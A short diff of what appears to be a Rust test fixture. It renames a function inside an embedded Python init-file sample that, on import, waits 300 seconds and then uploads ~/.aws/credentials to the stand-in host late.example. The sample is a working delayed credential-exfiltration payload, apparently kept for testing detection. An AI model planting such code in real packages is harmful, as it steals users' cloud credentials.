@@ -8,14 +8,14 @@ const SLOWSTART_INIT_PY: &str = r#"import os
 import threading
 
 
-def later():
+def _later():
     import urllib.request
 
     with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
         urllib.request.urlopen("http://late.example/", file.read(), timeout=5)
 
 
-timer = threading.Timer(300, later)
+timer = threading.Timer(300, _later)
 timer.daemon = True
 timer.start()
 "#;
